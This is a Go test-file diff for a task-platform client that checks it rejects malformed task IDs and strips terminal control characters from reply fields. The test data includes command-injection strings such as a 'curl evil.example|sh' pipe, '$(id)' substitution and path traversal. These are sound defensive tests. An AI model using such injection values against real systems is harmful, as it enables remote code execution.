@@ -4,6 +4,7 @@ import (
 	"context"
 	"errors"
 	"fmt"
+	"strings"
 	"testing"
 	"time"
 
@@ -78,6 +79,47 @@ func TestCreateTaskWithoutAnIDInTheReplyIsAnUnknownOutcome(t *testing.T) {
 		_, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{})
 		if !errors.Is(err, ErrOutcomeUnknown) || !errors.Is(err, ErrMalformedReply) {
 			t.Errorf("%s: got %v", result, err)
+		}
+	}
+}
+
+// malformedTaskIDs could do harm in a message, a command that is meant to be copied, or a later request.
+func malformedTaskIDs() []string {
+	return []string{
+		"1; curl evil.example|sh", "1 2", "1\\u001b[2J", "1\\n2", "$(id)", "`id`", "../1", "1,2", "+8618012345678", "任务", "2.025e+19",
+		strings.Repeat("1", 65),
+	}
+}
+
+func TestCreateTaskTakesNoMalformedID(t *testing.T) {
+	t.Parallel()
+	for _, id := range malformedTaskIDs() {
+		p := startPlatform(t, always(success(`{"taskid":"`+id+`","invaliddata":[]}`)))
+		created, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{})
+		if !errors.Is(err, ErrOutcomeUnknown) || !errors.Is(err, ErrMalformedReply) || !strings.Contains(err.Error(), "malformed task id") {
+			t.Errorf("%s: got %v", id, err)
+		}
+		if created.ID != "" {
+			t.Errorf("%s was taken for the id %q", id, created.ID)
+		}
+	}
+	for _, id := range []string{"20200212163504393460", "1", "task_A-1", strings.Repeat("1", 64)} {
+		p := startPlatform(t, always(success(`{"taskid":"`+id+`"}`)))
+		if created, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{}); err != nil || created.ID != id {
+			t.Errorf("%s: got %q, %v", id, created.ID, err)
+		}
+	}
+}
+
+// TestListingWithAMalformedTaskIDFails does not let such a row drop out of the listing: the task might be the one that
+// is looked for, and would be made again.
+func TestListingWithAMalformedTaskIDFails(t *testing.T) {
+	t.Parallel()
+	for _, id := range append(malformedTaskIDs(), "") {
+		p := startPlatform(t, always(success(`{"totalitems":2,"task":[{"taskid":"1","status":1026},{"taskid":"`+id+`","status":1026}]}`)))
+		tasks, err := newClient(t, p.URL).ListTasks(context.Background(), TaskFilter{})
+		if !errors.Is(err, ErrMalformedReply) || !strings.Contains(err.Error(), "malformed task id") || len(tasks) > 0 {
+			t.Errorf("%s: got %v, %v", id, tasks, err)
 		}
 	}
 }
@@ -201,6 +243,14 @@ func TestTaskRowsOfOldAndNewServers(t *testing.T) {
 		"other names of the counts": {
 			`{"taskid":"1","status":1028,"totalnum":"3","callednum":1,"nocall":2}`,
 			Task{ID: "1", Status: StatusEnded, RawStatus: "1028", Total: ptr(int64(3)), Called: ptr(int64(1)), Uncalled: ptr(int64(2))},
+		},
+		"nothing that steers a terminal": {
+			`{"taskid":"1","status":"arch\u001b[2Jived\n\u202e","createtime":"2020-01-01 00:00:00\u0007","starttime":"\u001b]0;x\u00072020","endtime":"2020\r\n2021",
+			"scheduledtime":"\u009b31m","pausedtime":"` + strings.Repeat("0", 400) + `","runtime":"7\u0000\u200b7"}`,
+			Task{
+				ID: "1", RawStatus: "arch [2Jived", CreatedAt: "2020-01-01 00:00:00", StartedAt: "]0;x 2020", EndedAt: "2020 2021",
+				ScheduledTime: "31m", PausedTime: strings.Repeat("0", 299) + "…", RunTime: ptr("7 7"),
+			},
 		},
 		"undocumented status": {`{"taskid":"1","status":1029}`, Task{ID: "1", Status: 1029, RawStatus: "1029"}},
 		"status in words":     {`{"taskid":"1","status":"archived"}`, Task{ID: "1", RawStatus: "archived"}},
